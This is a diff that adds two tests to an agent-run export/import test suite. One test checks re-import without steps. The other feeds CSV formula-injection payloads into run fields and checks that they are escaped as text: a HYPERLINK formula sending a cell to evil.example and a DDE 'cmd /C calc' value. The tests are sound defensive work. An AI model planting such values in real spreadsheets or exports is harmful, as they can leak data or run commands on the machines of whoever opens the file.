@@ -52,6 +52,32 @@ describeEachDb('export and import', (dialect) => {
     }
   });
 
+  it('keeps the stored steps of a run imported as the API answers it, without steps', async () => {
+    const { db, database } = await emptyDb(dialect);
+    try {
+      await importRuns(db, Readable.from([text]));
+      const before = await tableRows(db);
+      // rt-run-0 as GET /runs/:id gives it: no steps key, and a changed tag
+      const line = JSON.parse(text.split('\n')[0]!) as Record<string, unknown>;
+      delete line.steps;
+      line.tags = ['fetched'];
+      const result = await importRuns(db, Readable.from([`${JSON.stringify(line)}\n`]));
+      expect(result).toMatchObject({ runs: 1, steps: 0, existing: 1 });
+      const after = await tableRows(db);
+      expect(after.steps).toEqual(before.steps);
+      const run = after.runs.find((r) => r.id === 'rt-run-0')!;
+      expect(JSON.parse(run.tags)).toEqual(['fetched']);
+      // an empty list is a list: it does replace them
+      line.steps = [];
+      await importRuns(db, Readable.from([`${JSON.stringify(line)}\n`]));
+      const emptied = await tableRows(db);
+      expect(emptied.steps.filter((s) => s.run_id === 'rt-run-0')).toEqual([]);
+    } finally {
+      await db.close();
+      await database.drop();
+    }
+  });
+
   it('reports malformed lines by number and still imports the valid ones', async () => {
     const { db, database } = await emptyDb(dialect);
     const lines = text.trimEnd().split('\n');
@@ -101,6 +127,31 @@ describeEachDb('export and import', (dialect) => {
     expect(lines[0]).toMatch(/^id,project_id,agent_id,status,/);
     expect(lines[1]).toMatch(/^rt-run-1,default,writer,failed,manual,n8n,/);
     expect(lines[1]).toContain(',it broke,');
+  });
+
+  it('writes recorded text that a spreadsheet would take for a formula as text', async () => {
+    const events = [
+      {
+        type: 'run.end',
+        run: {
+          id: 'csv-formula',
+          agent_id: 'csv-agent',
+          status: 'failed',
+          source: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+          user_id: "+cmd|' /C calc'!A0",
+          tags: ['@SUM(1+1)'],
+          error: { message: '-1+1' },
+        },
+      },
+    ];
+    expect((await source.request('POST', '/api/v1/ingest', { events })).statusCode).toBe(200);
+    const csv = await exportText(source.ctx.db, { format: 'csv', agentId: 'csv-agent' });
+    const cells = csv.trimEnd().split('\n')[1]!;
+    expect(cells).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
+    expect(cells).toContain(`,'+cmd|' /C calc'!A0,`);
+    expect(cells).toContain(`,'@SUM(1+1),`);
+    expect(cells).toContain(`,'-1+1,`);
+    await source.request('DELETE', '/api/v1/runs/csv-formula');
   });
 });
 
